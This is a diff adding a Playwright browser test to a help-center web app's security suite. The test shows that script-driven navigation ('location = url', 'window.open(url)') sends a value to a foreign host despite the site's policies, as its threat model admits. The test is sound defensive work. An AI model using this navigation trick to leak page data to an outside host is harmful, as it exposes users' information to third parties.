@@ -179,6 +179,23 @@ def test_the_worker_reaches_no_other_host(victim: Page, served: HelpCenter) -> N
     assert _FOREIGN not in asked
 
 
+@pytest.mark.parametrize("attempt", ["location = url", "window.open(url)"])
+def test_no_policy_keeps_a_script_from_leaving(
+    browser: Browser, center: HelpCenter, attempt: str
+) -> None:
+    """Going to another address does send what stands in it: the threat model says so."""
+    context = browser.new_context()
+    context.route(f"{_FOREIGN}**", lambda route: route.fulfill(body=""))
+    page = context.new_page()
+    page.goto(center.url)
+
+    with context.expect_event("request", lambda request: request.url.startswith(_FOREIGN)) as left:
+        page.evaluate(f"url => {{ {attempt} }}", f"{_FOREIGN}?value")
+
+    assert left.value.url == f"{_FOREIGN}?value"
+    context.close()
+
+
 def test_nobody_may_frame_it(center: HelpCenter, browser: Browser) -> None:
     """A page of another origin cannot show ours in a frame."""
     page = browser.new_page()
